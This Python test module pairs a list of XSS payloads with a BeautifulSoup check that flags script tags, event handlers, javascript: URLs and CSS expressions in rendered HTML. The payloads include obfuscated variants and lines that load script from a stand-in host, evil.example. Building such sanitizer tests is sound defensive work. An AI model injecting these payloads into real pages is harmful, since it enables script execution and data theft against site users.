"""Hostile HTML snippets, and a check that rendered HTML holds nothing executable.

Written for these tests from the usual families of XSS payloads: script tags in many
spellings, event handlers, javascript: and data: URLs (plain, entity-encoded, split by
control characters), CSS expressions, SVG and MathML tricks, unclosed and nested tags.
"""

from __future__ import annotations

import re

from bs4 import BeautifulSoup

SNIPPETS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script >alert(1)</script >",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<p onclick=alert(1)>click</p>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">link</a>',
    '<a href="java&#x09;script:alert(1)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">link</a>',
    '<a href="&#x6A;avascript:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<img src='https://tracker.example/p.gif' width=1 height=1>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="#" onclick="alert(1)">x</a>',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>unclosed <b>bold <i>italic <script>alert(1)",
    "<isindex type=image src=1 onerror=alert(1)>",
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "frame", "frameset", "applet",
                  "base", "link", "meta", "svg", "math", "input", "button", "textarea"}  # fmt: skip
DANGEROUS_SCHEME = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster"}


def executable_parts(html: str, allow_head: bool = False) -> list[str]:
    """What in `html` could run: forbidden tags, on* handlers, script URLs, CSS expressions."""
    soup = BeautifulSoup(html, "html.parser")
    found = []
    for tag in soup.find_all(True):
        if tag.name in FORBIDDEN_TAGS and not (allow_head and tag.name == "meta"):
            found.append(f"<{tag.name}>")
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            squeezed = re.sub(r"[\x00-\x20]", "", text)
            if name.lower().startswith("on"):
                found.append(f"{tag.name}[{name}]")
            elif name.lower() in URL_ATTRIBUTES and DANGEROUS_SCHEME.match(squeezed):
                found.append(f"{tag.name}[{name}={text[:30]}]")
            elif name.lower() == "style" and re.search(r"expression|javascript:|url\(", text, re.I):
                found.append(f"{tag.name}[style]")
        if tag.name == "style" and re.search(r"@import|expression|javascript:", tag.text, re.I):
            found.append("<style> with code")
    return found
